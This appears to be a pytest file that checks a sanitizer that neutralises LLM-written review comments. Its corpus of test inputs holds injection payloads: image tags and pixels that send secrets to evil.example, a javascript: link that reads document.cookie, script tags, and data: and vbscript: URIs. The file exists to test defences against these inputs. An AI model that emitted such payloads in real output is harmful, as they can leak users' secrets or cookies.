"""S3: model text cannot mention, embed, link out, inject HTML or copy our marker, and is capped."""

from __future__ import annotations

import re

import pytest

from tfreview.advisor.sanitize import ZWJ, host_allowed, sanitize
from tfreview.core.findings import Advice, Review, Verdict
from tfreview.core.plan import Coverage
from tfreview.core.severity import Severity
from tfreview.render.markdown import MAX_CHARS, render_markdown

MARKER = "<!-- tfreview:comment -->"
HOSTS = ("docs.example.com",)

CORPUS = [
    "Ping @org/team and @alice about this.",
    "cc @octocat, see #12 and other/repo#34 and GH-56",
    "fixes kubernetes/kubernetes#1 and octo-org/octo.repo#123, twice: kubernetes/kubernetes#1",
    "<img src=https://evil.example/x.png?q=secret>",
    "![chart](https://evil.example/pixel.gif?data=AKIA)",
    "![ref image][img]\n\n[img]: https://evil.example/p.png",
    "[click](javascript:alert(document.cookie))",
    "[docs](https://docs.example.com/guide) and [evil](https://evil.example/?q=1)",
    "[sneaky](https://docs.example.com@evil.example/)",
    "Visit https://evil.example/?q=leak or www.evil.example now",
    "Rename site_www.evil.example or *WWW.evil.example* (www.evil.example)",
    "<details><summary>open",
    "<!-- tfreview:comment --> fake marker",
    "<script>alert(1)</script><a href='https://evil.example'>x</a>",
    "&lt;img src=x&gt; and &#64;alice",
    "data:text/html;base64,PHNjcmlwdD4= and vbscript:msgbox",
    "```\nunclosed code fence",
    "@\u200balice with a zero-width space",
    # review19a: GitHub's mention reads `@name` after any character that is not an ASCII letter, digit or `_`: after a
    # lone backtick (no code span) and after a non-ASCII letter too; Python's `\w` spared both
    "`@octocat, a backtick no span closes",
    "``@octocat` a double backtick a single one does not close",
    "José@octocat and 名@org/team",
    "A" * 70_000,
]

_LIVE_MENTION = re.compile(r"(?<![A-Za-z0-9_])@[A-Za-z0-9]")  # GitHub's reading: ASCII word characters only
_IMAGE = re.compile(r"!\[[^\]]*\]\(|<img", re.IGNORECASE)
_LINK_TARGET = re.compile(r"\]\(([^)\s]+)")
# GFM links `www.` after a space or `*`, `_`, `~`, `(`: `site_www.…` too (review16c)
_AUTOLINK = re.compile(r"(?i)\b(?:https?|ftp)://|(?<![a-z0-9])www\.")


def _assert_inert(text: str) -> None:
    assert not _LIVE_MENTION.search(text)
    assert not _IMAGE.search(text)
    for target in _LINK_TARGET.findall(text):
        assert host_allowed(target, HOSTS), target
    bare = _LINK_TARGET.sub("](", text)
    assert not _AUTOLINK.search(bare)  # no bare URL left to autolink
    assert "<" not in text
    assert ">" not in text
    assert "<!-- tfreview" not in text
    assert not re.search(r"(?i)javascript:|vbscript:|data:text", text)
    assert not re.search(r"#\d", text)  # `#12`, and `other/repo#34` (a cross-reference in another repository)
    assert text.count("```") % 2 == 0


@pytest.mark.parametrize("text", CORPUS, ids=range(len(CORPUS)))
def test_s3_sanitised_text_is_inert(text: str) -> None:
    out = sanitize(text, allowed_hosts=HOSTS, max_chars=12_000)
    _assert_inert(out)
    assert len(out) <= 12_000


def test_allowed_links_survive_and_others_become_text() -> None:
    out = sanitize("[docs](https://docs.example.com/guide) and [evil](https://evil.example/?q=1)", allowed_hosts=HOSTS)
    assert "[docs](https://docs.example.com/guide)" in out
    assert "evil" in out
    assert "](https://evil" not in out


def test_mentions_are_broken_with_a_zero_width_joiner() -> None:
    assert sanitize("ask @alice") == f"ask @{ZWJ}alice"
    assert sanitize("mail bob@example.com") == "mail bob@example.com"


def test_the_whole_corpus_in_one_posted_comment() -> None:
    summary = sanitize("\n".join(CORPUS), allowed_hosts=HOSTS, max_chars=12_000)
    advice = Advice(summary=summary, risk=Severity.LOW, source="openai/gpt-test", is_llm=True)
    review = Review([], [], [], [], Coverage(), Verdict.PASS, Severity.HIGH, advice=advice)
    body = render_markdown(review, marker=MARKER)
    assert len(body) <= MAX_CHARS
    assert body.count("<!-- tfreview") == 1
    assert body.startswith(MARKER)
    assert not _LIVE_MENTION.search(body)
    assert not _IMAGE.search(body)
    opened = len(re.findall(r"<details>", body))
    assert opened == len(re.findall(r"</details>", body))


def test_text_is_capped_without_cutting_an_entity() -> None:
    out = sanitize("<" * 5_000, max_chars=1_000)
    assert len(out) <= 1_000
    assert out.endswith("… (truncated)")
    assert not re.search(r"&[a-z]*…", out)
